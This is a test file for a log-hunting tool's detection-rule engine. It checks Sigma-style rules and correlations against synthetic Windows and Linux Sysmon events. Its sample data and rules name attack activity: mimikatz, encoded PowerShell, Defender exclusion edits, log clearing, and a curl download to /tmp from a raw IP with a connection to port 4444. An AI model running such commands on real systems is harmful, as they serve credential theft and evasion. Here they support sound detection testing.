import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { compileRule, queryTextOf } from '../../../../../main/iq/rules/compile-rule.ts';
import { readRules } from '../../../../../main/iq/rules/read-rules.ts';
import { RuleRun } from '../../../../../main/iq/rules/rule-run.ts';
import { makeRuleSet } from '../../../../../main/iq/rules/rule-set.ts';
import { rowsOf, testCase, testFolder } from '../../case-in-folder.ts';

const WORDS = [
  'mimikatz',
  'C:\\Windows\\cmd.exe',
  'powershell -enc AAA=',
  'Straße',
  'ab',
  'x"y',
  '10.0.0.7',
];

function events(): string {
  const sample = fc.sample(
    fc.record({
      time: fc.integer({ min: 0, max: 3600 }),
      EventID: fc.constantFrom(1, 4624, 4625),
      Channel: fc.constantFrom('Security', 'System'),
      CommandLine: fc.constantFrom(...WORDS, ''),
      User: fc.constantFrom('root', 'SYSTEM', 'bob'),
    }),
    { numRuns: 400, seed: 7 },
  );
  return sample
    .map(({ time, ...rest }) =>
      JSON.stringify({ time: new Date(1.7e12 + time * 1000).toISOString(), message: 'm', ...rest }),
    )
    .join('\n');
}

/** Rules of every kind: with a channel, with a number, with words, with nothing to look for. */
const DETECTIONS: Record<string, unknown>[] = [
  { s: { EventID: 4625 }, condition: 's' },
  { s: { EventID: [1, 4624], User: 'BOB' }, condition: 's' },
  { s: { 'CommandLine|contains': 'KATZ' }, condition: 's' },
  { s: { 'CommandLine|endswith': '\\cmd.exe', Channel: 'security' }, condition: 's' },
  { s: { 'CommandLine|contains': ['-enc', 'x"y'] }, condition: 's' },
  { s: { 'CommandLine|contains': 'ab' }, condition: 's' },
  { s: { 'CommandLine|contains': 'STRASSE' }, condition: 's' },
  { s: { 'CommandLine|contains': 'stra\u00dfe' }, condition: 's' },
  { s: { 'CommandLine|re': 'm.m.k' }, condition: 's' },
  { s: { 'CommandLine|cidr': '10.0.0.0/8' }, condition: 's' },
  { k: ['powershell*AAA'], condition: 'k' },
  { s: { User: 'root' }, f: { CommandLine: '' }, condition: 's and not f' },
  { f: { 'CommandLine|contains': 'a' }, condition: 'not f' },
  { s: { EventID: 1 }, t: { 'CommandLine|contains': 'mimikatz' }, condition: 's or t' },
];

async function caseOfEvents() {
  const folder = testFolder();
  mkdirSync(join(folder, 'logs'));
  writeFileSync(join(folder, 'logs', 'events.json'), events());
  const { open } = await testCase(folder);
  await open.read({ kind: 'paths', paths: [join(folder, 'logs')] });
  return open;
}

function rulesOf(documents: readonly Record<string, unknown>[]) {
  const text = documents.map((document) => JSON.stringify(document)).join('\n---\n');
  const { rules, problems } = readRules('a.yml', text, new Map());
  expect(problems).toEqual([]);
  return makeRuleSet(rules, new Map());
}

test('all rules together find what each of them finds by itself', async () => {
  const open = await caseOfEvents();
  const set = rulesOf(
    DETECTIONS.map((detection, at) => ({
      title: `r${at}`,
      id: `r${at}`,
      logsource: { product: 'zeek' },
      detection,
    })),
  );
  const formats = new Set(open.sources().map(({ format }) => format));
  const run = new RuleRun(set, formats);
  await open.store.searchSet(run.queries, {
    signal: new AbortController().signal,
    found: (id, hits) => run.take(id, hits),
  });
  const found = new Map(run.found().map(({ rule, hits }) => [rule.key, hits]));
  let some = 0;
  for (const rule of set.detections) {
    const rows = await rowsOf(open, queryTextOf(compileRule(rule, 'json', new Map())));
    const places = (list: readonly { ordinal: number }[]): number[] =>
      list.map(({ ordinal }) => ordinal).sort((a, b) => a - b);
    expect(places(found.get(rule.key) ?? []), rule.query).toEqual(
      places(rows.map(({ ref }) => ref)),
    );
    if (rows.length > 0) some++;
  }
  expect(some).toBeGreaterThanOrEqual(12);
});

test('a correlation counts what its rule finds, which is then not told by itself', async () => {
  const open = await caseOfEvents();
  const set = rulesOf([
    {
      title: 'many',
      correlation: {
        type: 'event_count',
        rules: ['failed'],
        'group-by': ['User'],
        timespan: '1h',
        condition: { gte: 5 },
      },
    },
    {
      title: 'failed',
      name: 'failed',
      logsource: { product: 'zeek' },
      detection: { s: { EventID: 4625 }, condition: 's' },
    },
  ]);
  const run = new RuleRun(set, new Set(open.sources().map(({ format }) => format)));
  await open.store.searchSet(run.queries, {
    signal: new AbortController().signal,
    found: (id, hits) => run.take(id, hits),
  });
  const [finding, ...others] = run.found();
  expect(others).toEqual([]);
  expect(finding?.rule.title).toBe('many');
  expect(finding?.matches?.map(({ group }) => group[0]?.value).sort()).toEqual([
    'SYSTEM',
    'bob',
    'root',
  ]);
  expect(finding?.hits.length).toBe((await rowsOf(open, 'EventID:4625')).length);
});

test('a correlation without its rule, one that goes in a circle and a rule that is there twice are told', () => {
  const correlation = (name: string, ref: string) => ({
    title: name,
    name,
    correlation: { type: 'temporal', rules: [ref], timespan: '1m' },
  });
  const rule = {
    title: 'r',
    id: 'r',
    logsource: { product: 'zeek' },
    detection: { s: { a: 1 }, condition: 's' },
  };
  const set = rulesOf([
    correlation('a', 'gone'),
    correlation('b', 'c'),
    correlation('c', 'b'),
    rule,
    rule,
  ]);
  expect(set.correlations).toEqual([]);
  expect(new Set(set.problems.map(({ title }) => title))).toEqual(new Set(['a', 'b', 'c', 'r']));
});

/** An event with what of it stands in the three ways in which others hand it on. */
interface Handed {
  readonly provider: string;
  readonly id: number;
  readonly channel: string;
  /** Element around its own data in `UserData`; null: they stand in `EventData`. */
  readonly root: string | null;
  readonly data: Readonly<Record<string, string>>;
}

const HANDED: readonly Handed[] = [
  {
    provider: 'Microsoft-Windows-Sysmon',
    id: 1,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    root: null,
    data: { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /priv', User: 'bob' },
  },
  {
    provider: 'Microsoft-Windows-Security-Auditing',
    id: 4688,
    channel: 'Security',
    root: null,
    data: { NewProcessName: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /priv' },
  },
  {
    provider: 'Microsoft-Windows-Eventlog',
    id: 104,
    channel: 'System',
    root: 'LogFileCleared',
    data: { SubjectUserName: 'jbrown', Channel: 'Application' },
  },
  {
    provider: 'Microsoft-Windows-Windows Defender',
    id: 5007,
    channel: 'Microsoft-Windows-Windows Defender/Operational',
    root: null,
    data: { 'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\a' },
  },
  {
    provider: 'Microsoft-Windows-TerminalServices-LocalSessionManager',
    id: 21,
    channel: 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
    root: 'EventXML',
    data: { User: 'SHOP\\mona', Address: '127.0.0.1' },
  },
];

const windows = (service: string, s: Record<string, unknown>, category?: string) => ({
  logsource: { product: 'windows', ...(category === undefined ? { service } : { category }) },
  detection: { s, condition: 's' },
});

const WINDOWS_RULES = [
  windows('', { 'Image|endswith': '\\whoami.exe', CommandLine: '* /priv' }, 'process_creation'),
  windows('', { User: 'bob' }, 'process_creation'),
  windows('system', { EventID: 104, Provider_Name: 'Microsoft-Windows-Eventlog' }),
  windows('system', { SubjectUserName: 'jbrown' }),
  windows('windefend', { EventID: 5007, 'NewValue|contains': '\\Exclusions\\Paths' }),
  windows('terminalservices-localsessionmanager', { EventID: 21, Address: ['::1', '127.0.0.1'] }),
];

function xmlOf({ provider, id, channel, root, data }: Handed, time: string): string {
  const parts = Object.entries(data).map(([name, value]) =>
    root === null ? `<Data Name="${name}">${value}</Data>` : `<${name}>${value}</${name}>`,
  );
  const own = root === null ? 'EventData' : 'UserData';
  const inner = root === null ? parts.join('') : `<${root}>${parts.join('')}</${root}>`;
  return `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${provider}"/><EventID>${id}</EventID><Level>4</Level><TimeCreated SystemTime="${time}"/><Channel>${channel}</Channel><Computer>pc7</Computer></System><${own}>${inner}</${own}></Event>`;
}

/** As `evtx_dump` writes it, with attributes in an element of their own, or as Chainsaw does, with them beside it. */
function dumpOf({ provider, id, channel, root, data }: Handed, time: string, beside: boolean) {
  const attributes = (name: string, values: object): object =>
    beside ? { [`${name}_attributes`]: values } : { [name]: { '#attributes': values } };
  const System = {
    ...attributes('Provider', { Name: provider }),
    EventID: beside ? id : { '#attributes': { Qualifiers: 0 }, '#text': id },
    ...attributes('TimeCreated', { SystemTime: time }),
    Channel: channel,
    Computer: 'pc7',
  };
  const own = root === null ? { EventData: data } : { UserData: { [root]: data } };
  return JSON.stringify({ Event: { System, ...own } });
}

test('rules find the same events of Windows as XML and as JSON of evtx_dump and Chainsaw', async () => {
  const folder = testFolder();
  mkdirSync(join(folder, 'logs'));
  const timeAt = (at: number): string => `2026-03-12T10:0${at}:00.000000Z`;
  const write = (name: string, line: (event: Handed, time: string) => string): void =>
    writeFileSync(
      join(folder, 'logs', name),
      HANDED.map((event, at) => `${line(event, timeAt(at))}\n`).join(''),
    );
  write('a.xml', xmlOf);
  write('b.jsonl', (event, time) => dumpOf(event, time, false));
  write('c.jsonl', (event, time) => dumpOf(event, time, true));
  const { open } = await testCase(folder);
  await open.read({ kind: 'paths', paths: [join(folder, 'logs')] });
  const sources = open.sources();
  expect(sources.map(({ format }) => format)).toEqual([
    'windows-event',
    'windows-event-dump',
    'windows-event-dump',
  ]);
  const set = rulesOf(
    WINDOWS_RULES.map((rule, at) => ({ title: `r${at}`, id: `r${at}`, ...rule })),
  );
  const run = new RuleRun(set, new Set(sources.map(({ format }) => format)));
  await open.store.searchSet(run.queries, {
    signal: new AbortController().signal,
    found: (id, hits) => run.take(id, hits),
  });
  const ofSource = (sourceId: number): string[][] => {
    const found = new Map(run.found().map(({ rule, hits }) => [rule.key, hits]));
    return set.detections.map(({ key }) =>
      (found.get(key) ?? [])
        .filter((hit) => hit.sourceId === sourceId)
        .map(({ us }) => new Date(us / 1000).toISOString().slice(11, 16)),
    );
  };
  const expected = [['10:00', '10:01'], ['10:00'], ['10:02'], ['10:02'], ['10:03'], ['10:04']];
  for (const { id, path } of sources) expect(ofSource(id), path).toEqual(expected);
});

test('rules about processes of Linux run on what Sysmon writes to syslog', async () => {
  const folder = testFolder();
  mkdirSync(join(folder, 'logs'));
  const event = (second: number, id: number, data: Record<string, string>): string => {
    const time = `2026-03-12T10:00:0${second}.000000Z`;
    const handed = {
      provider: 'Linux-Sysmon',
      id,
      channel: 'Linux-Sysmon/Operational',
      root: null,
      data,
    };
    const xml = xmlOf(handed, time).replace(/ xmlns="[^"]*"/, '');
    return `Mar 12 10:00:0${second} web1 sysmon: ${xml}\n`;
  };
  writeFileSync(
    join(folder, 'logs', 'syslog'),
    `Mar 12 10:00:00 web1 sysmon[7]: Running...\n${event(1, 1, { Image: '/usr/bin/curl', CommandLine: 'curl -k https://192.0.2.7 &gt; /tmp/x' })}${event(2, 1, { Image: '/usr/bin/id', CommandLine: 'id' })}${event(3, 3, { Image: '/usr/bin/curl', DestinationPort: '4444' })}`,
  );
  const { open } = await testCase(folder);
  await open.read({ kind: 'paths', paths: [join(folder, 'logs')] });
  expect(open.sources().map(({ format }) => format)).toEqual(['sysmon-linux']);
  const linux = (category: string, s: Record<string, unknown>) => ({
    logsource: { product: 'linux', category },
    detection: { s, condition: 's' },
  });
  const rules = [
    linux('process_creation', { 'Image|endswith': '/curl', 'CommandLine|contains': '> /tmp/' }),
    linux('network_connection', { 'Image|endswith': '/curl', DestinationPort: 4444 }),
  ];
  const set = rulesOf(rules.map((rule, at) => ({ title: `r${at}`, id: `r${at}`, ...rule })));
  const run = new RuleRun(set, new Set(['sysmon-linux']));
  await open.store.searchSet(run.queries, {
    signal: new AbortController().signal,
    found: (id, hits) => run.take(id, hits),
  });
  const seconds = run
    .found()
    .map(({ rule, hits }) => [rule.id, hits.map(({ us }) => (us / 1e6) % 60)]);
  expect(seconds).toEqual([
    ['r0', [1]],
    ['r1', [3]],
  ]);
});
